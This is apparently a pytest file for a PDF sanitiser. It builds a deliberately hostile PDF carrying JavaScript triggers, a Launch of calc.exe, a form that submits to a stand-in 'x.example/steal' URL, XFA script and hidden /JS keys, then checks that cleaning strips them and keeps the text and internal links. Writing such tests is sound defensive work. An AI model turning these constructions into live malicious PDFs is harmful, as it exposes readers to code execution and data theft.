"""A cleaned PDF keeps its text and its links to its own pages, and nothing that runs, submits,
opens or fetches anything: every action but GoTo-a-page (ISO 32000-2, 12.6), every trigger
(/AA) and XFA forms are gone, wherever in the file they hide."""

import io

import pikepdf
import pypdfium2 as pdfium
import pytest

from moderation.samples import processing

Name = pikepdf.Name
ACTIVE = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/RichMediaExecute",
          "/Rendition", "/URI", "/GoToR", "/GoToE", "/Named", "/ResetForm", "/Hide"}
PAGE_TEXT = ["Homework should be shorter", "Because children need to play", "The end"]


def _js(pdf, script="app.alert('hi')"):
    return pikepdf.Dictionary(S=Name.JavaScript, JS=pikepdf.String(script))


def _link(pdf, page, action=None, **extra):
    annotation = pdf.make_indirect(pikepdf.Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[72, 72, 200, 100], **extra))
    if action is not None:
        annotation.A = action
    page.obj.Annots.append(annotation)
    return annotation


def hostile_pdf() -> bytes:
    """Three pages of text, with each kind of active content in the places readers look."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(pikepdf.Dictionary(Type=Name.Font, Subtype=Name.Type1,
                                                BaseFont=Name.Helvetica))
    for text in PAGE_TEXT:
        page = pdf.add_blank_page(page_size=(612, 792))
        page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 20 Tf 72 700 Td ({text}) Tj ET".encode())
        page.obj.Annots = pikepdf.Array()
    first, second, third = pdf.pages
    root = pdf.Root

    # Links: each action type on its own, a GoTo hiding scripts in its /Next chain, a GoTo to
    # a page number (only meaningful in another file), and the two links that must survive.
    _link(pdf, first, pikepdf.Dictionary(S=Name.GoTo, D=[second.obj, Name.Fit]))
    _link(pdf, first, Dest=[third.obj, Name.XYZ, 0, 792, 0])
    _link(pdf, first, _js(pdf))
    _link(pdf, first, pikepdf.Dictionary(S=Name.URI, URI=pikepdf.String("https://x.example")))
    _link(pdf, first, pikepdf.Dictionary(S=Name.Launch, F=pikepdf.String("calc.exe")))
    _link(pdf, first, pikepdf.Dictionary(S=Name.GoToR, F=pikepdf.String("other.pdf"),
                                         D=[0, Name.Fit]))
    _link(pdf, first, pikepdf.Dictionary(S=Name.GoToE, T=pikepdf.Dictionary(R=Name.C)))
    _link(pdf, first, pikepdf.Dictionary(S=Name.Named, N=Name.Print))
    _link(pdf, first, pikepdf.Dictionary(S=Name.GoTo, D=[2, Name.Fit]))
    _link(pdf, third, pikepdf.Dictionary(S=Name.GoTo, D=pikepdf.String("opening")))
    _link(pdf, third, pikepdf.Dictionary(S=Name.GoTo, D=pikepdf.String("nowhere")))
    _link(pdf, second, pikepdf.Dictionary(
        S=Name.GoTo, D=[first.obj, Name.Fit],
        Next=[_js(pdf, "chained()"),
              pikepdf.Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://x.example"))]))
    shared = pdf.make_indirect(_js(pdf, "shared()"))
    _link(pdf, second, shared)
    _link(pdf, third, shared, AA=pikepdf.Dictionary(E=_js(pdf, "enter()")))

    # Multimedia annotations that exist to play or run content.
    third.obj.Annots.append(pdf.make_indirect(pikepdf.Dictionary(
        Type=Name.Annot, Subtype=Name.Screen, Rect=[0, 0, 10, 10],
        A=pikepdf.Dictionary(S=Name.Rendition, JS=pikepdf.String("play()")))))
    third.obj.Annots.append(pdf.make_indirect(pikepdf.Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 10, 10],
        A=pikepdf.Dictionary(S=Name.RichMediaExecute,
                             CMD=pikepdf.Dictionary(C=pikepdf.String("run"))))))

    # A form: a button that submits, a text field with keystroke and format scripts, and a
    # field nested under /Kids whose widget imports data; plus an XFA form.
    widget_kid = pdf.make_indirect(pikepdf.Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, Rect=[72, 300, 200, 320], P=second.obj,
        A=pikepdf.Dictionary(S=Name.ImportData, F=pikepdf.String("data.fdf"))))
    parent_field = pdf.make_indirect(pikepdf.Dictionary(
        FT=Name.Tx, T=pikepdf.String("group"), Kids=[widget_kid]))
    widget_kid.Parent = parent_field
    second.obj.Annots.append(widget_kid)
    button = pdf.make_indirect(pikepdf.Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Rect=[72, 200, 200, 220],
        T=pikepdf.String("send"), P=first.obj,
        A=pikepdf.Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://x.example/steal"))))
    text_field = pdf.make_indirect(pikepdf.Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, Rect=[72, 240, 200, 260],
        T=pikepdf.String("name"), P=first.obj,
        AA=pikepdf.Dictionary(K=_js(pdf, "keystroke()"), F=_js(pdf, "format()"))))
    first.obj.Annots.extend([button, text_field])
    root.AcroForm = pikepdf.Dictionary(
        Fields=[button, text_field, parent_field],
        XFA=pdf.make_stream(b"<xdp:xdp><script>xfa.host.messageBox('x')</script></xdp:xdp>"))
    root.NeedsRendering = True

    # Document- and page-level triggers, and the document's script name tree.
    root.OpenAction = _js(pdf, "open()")
    root.AA = pikepdf.Dictionary(WC=_js(pdf, "close()"))
    second.obj.AA = pikepdf.Dictionary(O=_js(pdf, "page_open()"))
    root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(
            Names=[pikepdf.String("init"), pdf.make_indirect(_js(pdf, "init()"))]),
        Dests=pikepdf.Dictionary(Names=[pikepdf.String("opening"),
                                        pikepdf.Array([first.obj, Name.Fit])]))

    # Outline: a GoTo that stays, a script, and a sibling (reached by the outline's own /Next)
    # whose action is a URI.
    outlines = pdf.make_indirect(pikepdf.Dictionary(Type=Name.Outlines))
    items = [pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String(title), Parent=outlines,
                                                  A=action))
             for title, action in [
                 ("Conclusion", pikepdf.Dictionary(S=Name.GoTo, D=[third.obj, Name.Fit])),
                 ("Script", _js(pdf, "outline()")),
                 ("Web", pikepdf.Dictionary(S=Name.URI, URI=pikepdf.String("https://x.example")))]]
    for before, after in zip(items, items[1:], strict=False):
        before.Next, after.Prev = after, before
    outlines.First, outlines.Last, outlines.Count = items[0], items[-1], len(items)
    root.Outlines = outlines

    # Somewhere no reader looks, but a walk over the file would find: an action and a bare
    # /JS dictionary hung off a page under made-up keys.
    third.obj.Unusual = pikepdf.Dictionary(Inner=_js(pdf, "hidden()"))
    third.obj.Other = pikepdf.Array([pikepdf.Dictionary(JS=pikepdf.String("bare()"))])

    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _all_dictionaries(pdf: pikepdf.Pdf):
    """Every dictionary in the file, indirect or nested directly inside another object."""
    seen, stack = set(), [pdf.trailer, *pdf.objects]
    while stack:
        obj = stack.pop()
        if not isinstance(obj, pikepdf.Dictionary | pikepdf.Stream | pikepdf.Array):
            continue
        if obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
        if isinstance(obj, pikepdf.Array):
            stack.extend(obj)
            continue
        yield obj
        stack.extend(obj[key] for key in obj)


@pytest.fixture(scope="module")
def cleaned() -> bytes:
    original = hostile_pdf()
    assert original.count(b"/JavaScript") > 5 and b"/XFA" in original  # the test file is hostile
    return processing.clean(original, "essay.pdf").data


def test_no_action_trigger_or_xfa_form_survives_anywhere(cleaned):
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        for obj in _all_dictionaries(pdf):
            assert "/JS" not in obj, repr(obj)
            assert "/AA" not in obj, repr(obj)
            assert "/XFA" not in obj and "/NeedsRendering" not in obj
            assert str(obj.get("/S", "")) not in ACTIVE, repr(obj)
            if obj.get("/S") == Name.GoTo:
                assert set(obj.keys()) <= {"/S", "/D", "/Type"}  # no /Next chain is left
            assert obj.get("/Subtype") not in (Name.Screen, Name.RichMedia)
        assert "/OpenAction" not in pdf.Root
        assert "/JavaScript" not in pdf.Root.get("/Names", {})
    for word in (b"alert", b"chained", b"calc.exe", b"x.example", b"xfa.host", b"hidden()",
                 b"bare()", b"data.fdf", b"keystroke"):
        assert word not in cleaned


def test_links_to_pages_of_the_same_file_survive(cleaned):
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        first, second, third = (page.obj.objgen for page in pdf.pages)
        gotos = [(page.obj.objgen, annot.A.D) for page in pdf.pages
                 for annot in page.obj.get("/Annots", []) if "/A" in annot]
        assert [(on, to[0].objgen) for on, to in gotos if isinstance(to, pikepdf.Array)
                ] == [(first, second), (second, first)]
        # A named destination that resolves to one of the file's pages is navigation too.
        assert [(on, str(to)) for on, to in gotos if isinstance(to, pikepdf.String)
                ] == [(third, "opening")]
        dests = [annot.Dest[0].objgen for annot in pdf.pages[0].obj.Annots if "/Dest" in annot]
        assert dests == [third]

        titles, item = [], pdf.Root.Outlines.First
        while True:
            titles.append((str(item.Title), item.A.D[0].objgen if "/A" in item else None))
            if "/Next" not in item:
                break
            item = item.Next
        # The outline keeps every entry; only the conclusion's GoTo still does anything.
        assert titles == [("Conclusion", third), ("Script", None), ("Web", None)]
        # The form keeps its fields (their appearance is part of the work), without actions.
        assert len(pdf.Root.AcroForm.Fields) == 3


def test_the_text_layer_survives_cleaning(cleaned):
    document = pdfium.PdfDocument(cleaned)
    try:
        for index, text in enumerate(PAGE_TEXT):
            page = document[index]
            textpage = page.get_textpage()
            assert text in textpage.get_text_range()
            textpage.close()
            page.close()
    finally:
        document.close()
